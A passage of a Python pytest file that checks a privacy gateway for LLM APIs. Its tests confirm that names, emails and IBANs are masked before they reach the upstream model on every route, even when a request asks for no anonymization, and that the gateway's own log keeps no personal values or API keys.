    assert by_org.admin("POST", "/orgs", json={"name": "strict", "anonymization": "always"}).status_code == 201
    org_key = by_org.admin("POST", "/keys", json={"org": "strict"}).json()["secret"]
    yield gateways, {always.base_url: KEY, by_org.base_url: org_key}


ROUTES = {
    "chat": ("/v1/chat/completions", {"messages": [{"role": "user", "content": "{text}"}]}),
    "chat_mount": ("/api/openai/v1/chat/completions", {"messages": [{"role": "user", "content": "{text}"}]}),
    "responses": ("/v1/responses", {"input": "{text}"}),
    "messages": ("/v1/messages", {"max_tokens": 50, "messages": [{"role": "user", "content": "{text}"}]}),
    "peakprivacy": ("/v1/ai/completions", {"messages": [{"role": "user", "content": "{text}"}]}),
}


@pytest.mark.parametrize("route", list(ROUTES))
@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
def test_policy_masks_every_route_even_when_the_body_says_no(strict: Any, marker: str, route: str,
                                                              streamed: bool) -> None:
    gateways, keys = strict
    path, template = ROUTES[route]
    text = f"{marker} {PERSON}, {EMAIL}, {IBAN}"
    body = json.loads(json.dumps(template).replace("{text}", text))
    body.update(model="fake/echo", stream=streamed)
    if route != "peakprivacy":
        body["anonymize"] = False
    for base_url, key in keys.items():
        headers = {"Authorization": f"Bearer {key}", "x-api-key": key, "Api-token": key,
                   "anthropic-version": "2023-06-01"}
        response = httpx.post(base_url + path, json=body, headers=headers, timeout=30)
        assert response.status_code == 200, response.text
        assert EMAIL in response.text, "the answer is restored"
    received = gateways.upstream.log.find(marker)
    assert len(received) == 2
    text = " ".join(everything(r) for r in received)
    for value in VALUES:
        for form in forms(value):
            assert form not in text, f"{value!r} reached the upstream"


# --------------------------------------------------------------------------- the gateway's own log


def test_the_log_holds_no_value_of_any_request(review: Review) -> None:
    """Run last: everything the module's requests sent -- refused or answered -- left no value,
    marker-free text or key in the gateway's log."""
    log = review.log_path.read_text(errors="replace")
    assert "request finished" in log or "POST /v1/chat/completions 200" in log, "the log has request lines"
    for value in (*VALUES, "Jürg", "Wädenswil", KEY, UPSTREAM_KEY, ANTHROPIC_KEY, "anna_meier", "Anna_Meier", B64[:16]):
        for form in forms(value):
            assert form not in log, f"{value!r} is in the gateway's log"
